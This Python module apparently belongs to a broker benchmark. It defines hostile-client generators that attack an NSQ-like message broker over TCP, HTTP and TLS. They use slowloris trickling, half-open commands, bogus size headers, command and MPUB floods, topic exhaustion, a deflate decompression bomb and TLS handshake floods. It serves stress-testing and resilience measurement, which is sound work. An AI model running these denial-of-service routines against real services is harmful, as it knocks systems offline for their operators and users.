"""What a hostile client does to a broker, one generator each: it sets itself up, then yields what it has done since the
last time, for as long as somebody asks. Bounded: connections and sizes are constants, time is the caller's.

Topics are ephemeral where messages are left behind, so that an attack does not fill the disk of whoever measures.
"""

from __future__ import annotations

import socket
import ssl
import time
import zlib
from collections.abc import Mapping
from contextlib import suppress

from bench.comparisons.hostile import mqtt_attacks
from bench.comparisons.hostile.flood import (
    CHUNK,
    FLOODS,
    PAUSE_S,
    Attack,
    Flood,
    Steps,
    Target,
    connect,
    endless,
    held_open,
)

MAGIC = b"  V2"
TOPIC = b"hostile#ephemeral"
NAMES = 10_000


def command(line: bytes, body: bytes) -> bytes:
    return line + b"\n" + len(body).to_bytes(4, "big") + body


def mpub(count: int, size: int) -> bytes:
    message = size.to_bytes(4, "big") + b"x" * size
    return command(b"MPUB " + TOPIC, count.to_bytes(4, "big") + count * message)


def subscribed(target: Target, channel: bytes, ready: int, identify: bytes = b"{}") -> socket.socket:
    greeting = MAGIC + command(b"IDENTIFY", identify) + b"SUB %b %b\nRDY %d\n" % (TOPIC, channel, ready)
    return connect(target.tcp, greeting)


def nops(target: Target) -> Steps:
    """Commands without effect, as fast as they are taken."""
    yield from endless(Flood(lambda: connect(target.tcp, MAGIC), b"NOP\n" * 16_000, FLOODS))


def rdys(target: Target) -> Steps:
    """A subscriber changes its mind on how much it takes, all the time."""
    yield from endless(Flood(lambda: subscribed(target, b"c", 1), b"RDY 1\nRDY 2500\n" * 4_000, FLOODS))


def invalids(target: Target) -> Steps:
    """Each is answered by an error, which is read."""
    yield from endless(Flood(lambda: subscribed(target, b"c", 0), b"FIN 0123456789abcdef\n" * 3_000, FLOODS))


def unread_answers(target: Target) -> Steps:
    """Publishes whose answers nobody reads."""
    data = command(b"PUB " + TOPIC, b"x") * 3_000
    yield from endless(Flood(lambda: connect(target.tcp, MAGIC), data, FLOODS, reads=False))


def unread_messages(target: Target) -> Steps:
    """Twenty subscribers with all the credit there is read nothing of what floods them."""
    held = [subscribed(target, b"c%d" % number, 2_500) for number in range(20)]
    flood = Flood(lambda: connect(target.tcp, MAGIC), mpub(5, 10_000), 1)
    while held:
        yield flood.step()


def unacknowledged(target: Target) -> Steps:
    """A subscriber reads everything and acknowledges nothing; what it has times out after a second."""
    identify = b'{"msg_timeout": 1000, "heartbeat_interval": 60000}'
    readers = [subscribed(target, b"c", 2_500, identify) for _ in range(4)]
    for reader in readers:
        reader.setblocking(False)
    flood = Flood(lambda: connect(target.tcp, MAGIC), mpub(10, 100), 1)
    while True:
        yield flood.step()
        for reader in readers:
            with suppress(BlockingIOError):
                reader.recv(CHUNK)


def mpubs(target: Target) -> Steps:
    """As many messages as an MPUB may have, each as small as can be."""
    yield from endless(Flood(lambda: connect(target.tcp, MAGIC), mpub(65_536, 1), 2))


def large_mpubs(target: Target) -> Steps:
    """As many bytes as an MPUB may have."""
    yield from endless(Flood(lambda: connect(target.tcp, MAGIC), mpub(5, 1_048_000), 2))


def storm(target: Target) -> Steps:
    """Connections to both ports, closed at once."""
    while True:
        for address in (target.tcp, target.http):
            with suppress(OSError):
                connect(address).close()
        yield 2


def huge_sizes(target: Target) -> Steps:
    """Sizes that nobody may have, declared; then the answer, and again."""
    while True:
        for size in (b"\x7f\xff\xff\xff", b"\xff\xff\xff\xff", b"\x00\x50\x00\x00"):
            with suppress(OSError):
                connection = connect(target.tcp, MAGIC + b"PUB " + TOPIC + b"\n" + size)
                connection.recv(CHUNK)
                connection.close()
        yield 3


def slowloris(target: Target) -> Steps:
    """Commands and requests that come a byte at a time on a thousand connections."""
    pub, request = command(b"PUB " + TOPIC, b"x" * 200), b"POST /pub?topic=h HTTP/1.1\r\nHost: x\r\nX: " + b"x" * 200
    slow = [(connect(target.tcp, MAGIC), pub) for _ in range(500)]
    slow += [(connect(target.http), request) for _ in range(500)]
    at = 0
    while True:
        for connection, data in slow:
            with suppress(OSError):
                connection.send(data[at % len(data) : at % len(data) + 1])
        yield len(slow)
        at += 1
        time.sleep(PAUSE_S)


def halves(target: Target) -> Steps:
    """Half commands of 20 kB on thousands of connections, held open; those that are closed come again."""
    half = MAGIC + command(b"PUB " + TOPIC, b"x" * 40_000)[:20_000]
    yield from held_open(lambda: connect(target.tcp, half))


def names(target: Target) -> Steps:
    """Topics, and channels of one, ten thousand of each; where they are refused, again."""
    number = 0
    while True:
        with suppress(OSError):
            connection = connect(target.tcp, MAGIC)
            for _ in range(100):
                number = (number + 1) % (2 * NAMES)
                if number >= NAMES:
                    connection.close()
                    connection = connect(target.tcp, MAGIC + b"SUB channels c%d\n" % (number - NAMES))
                else:
                    connection.sendall(command(b"PUB t%d" % number, b"x"))
                connection.recv(CHUNK)
            connection.close()
        yield 100


def http_flood(target: Target) -> Steps:
    """Requests one behind the other, for the engine and for Python, and heads as large as may be."""
    ping = b"GET /ping HTTP/1.1\r\nHost: x\r\n\r\n" * 500
    stats = b"GET /stats?format=json HTTP/1.1\r\nHost: x\r\n\r\n" * 50
    head = b"GET /ping HTTP/1.1\r\nHost: x\r\nX: " + b"x" * 65_000 + b"\r\n\r\n"
    floods = [Flood(lambda: connect(target.http), data, 3) for data in (ping, stats, head)]
    while True:
        yield sum(flood.step() for flood in floods)


def http_mpubs(target: Target) -> Steps:
    """MPUBs by HTTP of 5 MB, of 80 messages and of 40,000, one behind the other on two connections each."""
    floods = [Flood(lambda: connect(target.http), mpub_by_http(size), 2) for size in (64_000, 124)]
    while True:
        yield sum(flood.step() for flood in floods)


def mpub_by_http(size: int) -> bytes:
    """As large as a body may be, of messages of that size."""
    body = b"\n".join([b"x" * size] * (5_000_000 // (size + 1)))
    head = f"POST /mpub?topic=by-http HTTP/1.1\r\nHost: x\r\nContent-Length: {len(body)}\r\n\r\n"
    return head.encode() + body


def bombs(target: Target) -> Steps:
    """Deflate that unpacks to a thousand times as much: commands without effect."""
    identify = command(b"IDENTIFY", b'{"feature_negotiation": true, "deflate": true, "deflate_level": 6}')
    packer = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)
    data = packer.compress(b"NOP\n" * 4_000_000) + packer.flush(zlib.Z_FULL_FLUSH)

    def packed() -> socket.socket:
        connection = connect(target.tcp, MAGIC + identify)
        connection.recv(CHUNK)  # what is sent before the answer would count as well
        return connection

    yield from endless(Flood(packed, data, FLOODS))


def handshakes(target: Target) -> Steps:
    """TLS handshakes, one after the other, no session used again."""
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    while True:
        with suppress(OSError):
            context.wrap_socket(connect(target.https)).close()
        yield 1


ATTACKS: Mapping[str, Attack] = {
    "slowloris": slowloris,
    "halves": halves,
    "huge-sizes": huge_sizes,
    "nops": nops,
    "rdys": rdys,
    "invalids": invalids,
    "unread-answers": unread_answers,
    "unread-messages": unread_messages,
    "unacknowledged": unacknowledged,
    "storm": storm,
    "names": names,
    "mpubs": mpubs,
    "large-mpubs": large_mpubs,
    "http": http_flood,
    "http-mpubs": http_mpubs,
    "bombs": bombs,
    "handshakes": handshakes,
    **mqtt_attacks.ATTACKS,
}
